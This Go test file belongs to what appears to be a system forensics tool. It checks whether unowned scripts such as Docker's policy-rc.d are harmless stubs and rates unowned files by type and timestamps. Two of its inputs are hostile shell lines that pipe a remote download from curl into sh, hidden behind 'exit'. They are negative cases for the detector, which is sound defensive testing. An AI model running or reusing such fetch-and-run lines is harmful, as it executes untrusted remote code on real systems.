package rules

import (
	"testing"
	"time"

	"github.com/nowwhat/nowwhat/internal/base/finding"
	"github.com/nowwhat/nowwhat/internal/base/snapshot"
)

const dockerPolicyRcD = `#!/bin/sh

# For most Docker users, "apt-get install" only happens during "docker build",
# where starting services doesn't work and often fails in humorous ways. This
# prevents those failures by stopping the services from attempting to start.

exit 101
`

func TestDoNothing(t *testing.T) {
	tests := []struct {
		text string
		want bool
	}{
		{dockerPolicyRcD, true},
		{"#!/bin/sh\nexit 101\n", true},
		{"#!/bin/sh\nexit 0", true},
		{"#!/bin/sh\ntrue\n", true},
		{"#!/usr/bin/env bash\n# stub\n:\n", true},
		{"#!/bin/sh\n/usr/local/bin/x &\nexit 0\n", false},
		{"#!/bin/sh\nexit 101 # ok\n", false}, // a comment on the line: not the plain form
		{"#!/bin/sh\nexit $(curl -s http://203.0.113.5/x | sh)\n", false},
		{"#!/bin/sh\nexit 0; curl http://x | sh\n", false},
		{"#!/usr/bin/python3\nexit\n", false}, // another language's exit may be anything
		{"#!/bin/sh\n# nothing\n", false},     // no command: not a known stub
		{"", false},
	}
	for _, tc := range tests {
		if _, got := doNothing(tc.text); got != tc.want {
			t.Errorf("doNothing(%q) = %v, want %v", tc.text, got, tc.want)
		}
	}
}

// TestUnownedSeverity: an unowned ELF is high; a script is medium; a do-nothing script low, and
// info when it is as old as the package database and unchanged since.
func TestUnownedSeverity(t *testing.T) {
	install := time.Date(2025, 5, 20, 0, 0, 0, 0, time.UTC).UnixNano()
	later := install + 40*24*hour
	mk := func(lists bool, recs ...any) *snapshot.Reader {
		if lists {
			recs = append(recs, snapshot.File{Path: "/var/lib/dpkg/info/base-files.list", Type: "file", Mtime: install, Ctime: install},
				snapshot.File{Path: "/var/lib/dpkg/info/zlib1g:amd64.list", Type: "file", Mtime: later, Ctime: later})
		}
		return memSnap(t, recs)
	}
	p := "/usr/sbin/policy-rc.d"
	tests := []struct {
		name  string
		lists bool
		file  snapshot.File
		text  string
		want  finding.Severity
	}{
		{"image's policy-rc.d", true, snapshot.File{Path: p, Format: "script", Mtime: install, Ctime: install + int64(time.Hour)}, dockerPolicyRcD, finding.Info},
		{"policy-rc.d changed later", true, snapshot.File{Path: p, Format: "script", Mtime: install, Ctime: later}, dockerPolicyRcD, finding.Low},
		{"policy-rc.d backdated but changed later", true, snapshot.File{Path: p, Format: "script", Mtime: install - 1, Ctime: later}, "#!/bin/sh\nexit 101\n", finding.Low},
		{"no package database times", false, snapshot.File{Path: p, Format: "script", Mtime: install, Ctime: install}, dockerPolicyRcD, finding.Low},
		{"a script that does something, as old as the image", true, snapshot.File{Path: p, Format: "script", Mtime: install, Ctime: install}, "#!/bin/sh\n/usr/local/bin/x\nexit 101\n", finding.Medium},
		{"a script whose text was not kept", true, snapshot.File{Path: "/usr/bin/big", Format: "script", Mtime: install, Ctime: install}, "", finding.Medium},
		{"an ELF program, as old as the image", true, snapshot.File{Path: "/usr/bin/sysupd", Format: "elf", Mtime: install, Ctime: install}, "", finding.High},
	}
	for _, tc := range tests {
		tc.file.Type = "file"
		recs := []any{tc.file}
		if tc.text != "" {
			recs = append(recs, snapshot.Content{Path: tc.file.Path, Text: tc.text})
		}
		got, why := unownedSeverity(mk(tc.lists, recs...), tc.file)
		if got != tc.want {
			t.Errorf("%s: %s, want %s (%q)", tc.name, got, tc.want, why)
		}
		if got < finding.High && len(why) == 0 {
			t.Errorf("%s: lowered without a reason", tc.name)
		}
	}
}
